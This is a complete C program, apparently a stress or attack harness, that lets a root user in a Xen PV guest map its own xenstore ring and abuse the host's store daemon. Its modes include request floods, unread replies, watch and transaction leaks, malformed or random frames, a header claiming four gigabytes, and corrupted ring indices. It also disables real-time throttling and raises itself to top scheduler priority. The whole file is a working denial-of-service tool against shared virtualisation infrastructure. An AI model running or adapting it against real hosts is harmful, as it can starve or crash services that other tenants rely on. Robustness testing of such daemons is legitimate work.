/*
 * A guest that misuses its own store ring. It maps the page that its kernel talks to xenstored on, and writes there
 * behind the kernel's back: `hostile KIND SECONDS RING_REF PORT`, the last two as they stand in the guest's
 * store/ring-ref and store/port. Needs root in a PV guest, and xen-privcmd loaded with unrestricted=1. Knows the
 * public header io/xs_wire.h and nothing of any daemon. Prints what it managed to do: rounds, bytes, answers.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

/* xen/io/xs_wire.h */
struct ring {
    unsigned char req[1024], rsp[1024];
    volatile uint32_t req_cons, req_prod, rsp_cons, rsp_prod;
    volatile uint32_t server_features, connection, error;
};
struct header {
    uint32_t type, req_id, tx_id, len;
};
enum { XS_DIRECTORY = 1, XS_READ = 2, XS_WATCH = 4, XS_TRANSACTION_START = 6, XS_WRITE = 11, XS_TYPES = 27 };

/* linux/xen/privcmd.h */
struct hypercall {
    uint64_t op, arg[5];
};
struct mmapbatch {
    uint32_t num;
    uint16_t dom;
    uint64_t addr;
    const uint64_t *frames;
    int *errors;
};
#define PRIVCMD_HYPERCALL _IOC(_IOC_NONE, 'P', 0, sizeof(struct hypercall))
#define PRIVCMD_MMAPBATCH_V2 _IOC(_IOC_NONE, 'P', 4, sizeof(struct mmapbatch))
#define DOMID_SELF 0x7ff0
#define EVENT_CHANNEL_OP 32
#define EVTCHNOP_SEND 4

static struct ring *ring;
static int privcmd;
static uint32_t *port_to_send;
static uint64_t rounds, bytes, answers;
static struct timespec until;

static void fail(const char *what) {
    printf("hostile: %s: %s\n", what, strerror(errno));
    exit(1);
}

static int over(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec > until.tv_sec || (now.tv_sec == until.tv_sec && now.tv_nsec >= until.tv_nsec);
}

static void kick(void) {
    struct hypercall call = {EVENT_CHANNEL_OP, {EVTCHNOP_SEND, (uintptr_t)port_to_send}};
    if (ioctl(privcmd, PRIVCMD_HYPERCALL, &call) != 0) fail("EVTCHNOP_send");
}

/* Appends to the requests as far as there is room; as an honest writer would. Returns how much. */
static uint32_t put(const void *data, uint32_t length) {
    uint32_t prod = ring->req_prod, room = 1024 - (prod - ring->req_cons);
    if (room > 1024) room = 0;
    if (length > room) length = room;
    for (uint32_t i = 0; i < length; i++) ring->req[(prod + i) & 1023] = ((const unsigned char *)data)[i];
    __sync_synchronize();
    ring->req_prod = prod + length;
    bytes += length;
    return length;
}

/* A whole request, or nothing if there is no room for it. */
static int request(uint32_t type, const char *payload, uint32_t length) {
    char message[256];
    struct header header = {type, 0x40000000u + (uint32_t)rounds, 0, length};
    if (1024 - (ring->req_prod - ring->req_cons) < sizeof header + length) return 0;
    memcpy(message, &header, sizeof header);
    memcpy(message + sizeof header, payload, length);
    put(message, sizeof header + length);
    rounds++;
    return 1;
}

/* Lets answers lie, but counts those that came. */
static void look(void) {
    static uint32_t seen;
    uint32_t prod = ring->rsp_prod;
    if (seen != 0) answers += prod - seen;
    seen = prod;
}

/* Throws answers away unread, so that the next ones come. */
static void drain(void) {
    look();
    ring->rsp_cons = ring->rsp_prod;
}

/* Valid requests as fast as they are taken. */
static void flood(void) {
    while (!over()) {
        while (request(rounds % 3 == 0 ? XS_DIRECTORY : XS_READ, rounds % 3 == 1 ? "name" : "device", rounds % 3 == 1 ? 5 : 7)) {}
        kick();
        drain();
    }
}

/* Writes its own nodes as fast as they are taken: each is work for the journal. */
static void writes(void) {
    static char payload[120] = "data/x";
    while (!over()) {
        memset(payload + 7, 'a' + rounds % 26, sizeof payload - 7);
        while (request(XS_WRITE, payload, sizeof payload)) {}
        kick();
        drain();
    }
}

/* Valid requests whose answers it never takes. */
static void unread(void) {
    while (!over()) {
        request(XS_READ, "name", 5);
        kick();
        look();
    }
}

/* Watches a path, writes to it for ever, and never takes the events. */
static void watches(void) {
    char payload[64];
    for (int i = 0; i < 300 && !over(); i++) {
        int length = snprintf(payload, sizeof payload, "data%ctoken-%03d", 0, i) + 1;
        while (!request(XS_WATCH, payload, (uint32_t)length) && !over()) drain(), kick();
        kick();
        drain();
    }
    while (!over()) {
        request(XS_WRITE, "data/y\0value", 12);
        kick();
        look();
    }
}

/* Transactions begun and left, one after another. */
static void transactions(void) {
    while (!over()) {
        while (request(XS_TRANSACTION_START, "", 1)) {}
        kick();
        drain();
    }
}

/* Only takes its processor: what it costs its neighbours anyway. */
static void spin(void) {
    while (!over()) rounds++;
}

/* Events without anything to tell. */
static void kicks(void) {
    while (!over()) {
        kick();
        rounds++;
    }
}

/* Random bytes for requests. */
static void garbage(void) {
    unsigned char junk[1024];
    while (!over()) {
        for (size_t i = 0; i < sizeof junk; i++) junk[i] = (unsigned char)rand();
        put(junk, sizeof junk);
        kick();
        drain();
        rounds++;
    }
}

/* Headers of every type, known or not, with a short random payload: each a frame, few of them requests. */
static void malformed(void) {
    while (!over()) {
        char payload[24];
        for (size_t i = 0; i < sizeof payload; i++) payload[i] = rand() % 3 ? (char)rand() : 0;
        request((uint32_t)rand() % (XS_TYPES + 3), payload, (uint32_t)rand() % sizeof payload);
        if (rounds % 8 == 0) kick();
        drain();
    }
}

/* A header that promises four gigabytes. */
static void huge(void) {
    struct header header = {XS_WRITE, 1, 0, 0xffffffffu};
    unsigned char junk[1024] = {0};
    put(&header, sizeof header);
    while (!over()) {
        put(junk, sizeof junk);
        kick();
        drain();
        rounds++;
    }
}

/* Indices that no honest guest has: more than the ring holds, backwards, anything; its own and the daemon's. */
static void indices(void) {
    while (!over()) {
        switch (rand() % 5) {
        case 0: ring->req_prod = ring->req_cons + 5000; break;
        case 1: ring->req_prod = ring->req_cons - 1; break;
        case 2: ring->rsp_cons = ring->rsp_prod + 1 + (uint32_t)rand() % 9000; break;
        case 3: ring->req_cons = (uint32_t)rand(); break;
        case 4: ring->rsp_prod = (uint32_t)rand(); break;
        }
        ring->connection = (uint32_t)rand();
        ring->error = (uint32_t)rand();
        kick();
        rounds++;
    }
}

static const struct {
    const char *name;
    void (*run)(void);
} kinds[] = {
    {"spin", spin},       {"kicks", kicks},     {"flood", flood},     {"writes", writes},
    {"unread", unread},   {"watches", watches}, {"transactions", transactions},
    {"malformed", malformed}, {"garbage", garbage}, {"huge", huge},   {"indices", indices},
};

int main(int argc, char **argv) {
    uint64_t frame;
    int error = 0;
    struct mmapbatch batch = {1, DOMID_SELF, 0, &frame, &error};
    struct sched_param most = {.sched_priority = 99};
    if (argc != 5) return printf("usage: hostile KIND SECONDS RING_REF PORT\n"), 1;
    frame = strtoull(argv[3], NULL, 0);
    privcmd = open("/dev/xen/privcmd", O_RDWR | O_CLOEXEC);
    if (privcmd < 0) fail("/dev/xen/privcmd");
    ring = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, privcmd, 0);
    if (ring == MAP_FAILED) fail("mmap of /dev/xen/privcmd");
    batch.addr = (uintptr_t)ring;
    if (ioctl(privcmd, PRIVCMD_MMAPBATCH_V2, &batch) != 0 || error != 0) fail("mapping its own store page");
    port_to_send = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
    if (port_to_send == MAP_FAILED) fail("memory");
    *port_to_send = (uint32_t)strtoul(argv[4], NULL, 0);
    /* The kernel's own thread would read the answers: with this it does not run while we do. */
    FILE *limit = fopen("/proc/sys/kernel/sched_rt_runtime_us", "w");
    if (limit != NULL) fputs("-1\n", limit), fclose(limit);
    if (sched_setscheduler(0, SCHED_FIFO, &most) != 0) fail("real-time priority");
    srand(7);
    clock_gettime(CLOCK_MONOTONIC, &until);
    until.tv_sec += atoi(argv[2]);
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, argv[1]) != 0) continue;
        kinds[i].run();
        printf("hostile: %s: %llu rounds, %llu bytes sent, %llu bytes answered, error word %u\n", argv[1],
               (unsigned long long)rounds, (unsigned long long)bytes, (unsigned long long)answers, ring->error);
        return 0;
    }
    return printf("hostile: no such kind: %s\n", argv[1]), 1;
}
